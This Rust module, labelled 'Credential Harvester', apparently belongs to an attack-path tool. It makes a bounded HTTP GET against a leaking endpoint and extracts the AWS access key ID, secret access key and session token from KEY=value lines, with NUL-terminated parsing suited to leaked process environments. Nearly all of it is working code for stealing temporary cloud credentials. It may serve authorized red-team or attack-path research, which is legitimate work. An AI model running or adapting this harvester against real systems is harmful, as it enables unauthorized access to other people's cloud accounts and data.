//! Credential Harvester
//!
//! Reads a bounded prefix of a leaking endpoint and extracts the
//! temporary credential triplet from its `KEY=value` lines.

use anyhow::{Context, Result};
use async_trait::async_trait;
use regex::Regex;
use std::time::Duration;
use tracing::{info, warn};

use super::types::{AttackPathError, CredentialTriplet};

/// Only the first 2 KiB of the leak source is read
pub const LEAK_READ_LIMIT: usize = 2048;

pub const ACCESS_KEY_ID_FIELD: &str = "AWS_ACCESS_KEY_ID";
pub const SECRET_ACCESS_KEY_FIELD: &str = "AWS_SECRET_ACCESS_KEY";
pub const SESSION_TOKEN_FIELD: &str = "AWS_SESSION_TOKEN";

/// A source of leaked environment text
#[async_trait]
pub trait LeakSource: Send + Sync {
    /// Single bounded read of `url`; no paging, no retry
    async fn read(&self, url: &str) -> Result<String, AttackPathError>;
}

/// Leak source reached over HTTP GET
pub struct HttpLeakSource {
    http_client: reqwest::Client,
}

impl HttpLeakSource {
    pub fn new() -> Result<Self> {
        let http_client = reqwest::Client::builder()
            .timeout(Duration::from_secs(30))
            .build()
            .context("Failed to create HTTP client")?;

        Ok(Self { http_client })
    }
}

#[async_trait]
impl LeakSource for HttpLeakSource {
    async fn read(&self, url: &str) -> Result<String, AttackPathError> {
        let fetch_error = |e: reqwest::Error| AttackPathError::Fetch {
            url: url.to_string(),
            reason: e.to_string(),
        };

        let mut response = self.http_client.get(url).send().await.map_err(fetch_error)?;

        if !response.status().is_success() {
            warn!("Leak source {} returned {}", url, response.status());
        }

        let mut body = Vec::with_capacity(LEAK_READ_LIMIT);
        while body.len() < LEAK_READ_LIMIT {
            let Some(chunk) = response.chunk().await.map_err(fetch_error)? else {
                break;
            };
            let take = (LEAK_READ_LIMIT - body.len()).min(chunk.len());
            body.extend_from_slice(&chunk[..take]);
        }

        Ok(String::from_utf8_lossy(&body).into_owned())
    }
}

/// Fetch `url` and extract the credential triplet
pub async fn harvest(source: &dyn LeakSource, url: &str) -> Result<CredentialTriplet, AttackPathError> {
    let text = source.read(url).await?;
    let credentials = parse_credentials(&text)?;

    // Secret key and session token are never logged
    info!(
        "Harvested credentials from {} (access key {})",
        url,
        credentials.masked_access_key_id()
    );

    Ok(credentials)
}

/// Extract all three fields or fail; partial triplets are never returned
pub fn parse_credentials(text: &str) -> Result<CredentialTriplet, AttackPathError> {
    let access_key_id = extract_field(text, ACCESS_KEY_ID_FIELD)
        .ok_or(AttackPathError::Parse(ACCESS_KEY_ID_FIELD))?;
    let secret_access_key = extract_field(text, SECRET_ACCESS_KEY_FIELD)
        .ok_or(AttackPathError::Parse(SECRET_ACCESS_KEY_FIELD))?;
    let session_token = extract_field(text, SESSION_TOKEN_FIELD)
        .ok_or(AttackPathError::Parse(SESSION_TOKEN_FIELD))?;

    Ok(CredentialTriplet {
        access_key_id,
        secret_access_key,
        session_token,
    })
}

/// Value of a `KEY=value` line terminated by newline or NUL
fn extract_field(text: &str, key: &str) -> Option<String> {
    let pattern = format!(r"(?:^|[\n\x00]){}=([^\n\x00]*)[\n\x00]", regex::escape(key));
    let re = Regex::new(&pattern).ok()?;

    re.captures(text)
        .and_then(|caps| caps.get(1))
        .map(|value| value.as_str().trim_end_matches('\r').to_string())
        .filter(|value| !value.is_empty())
}
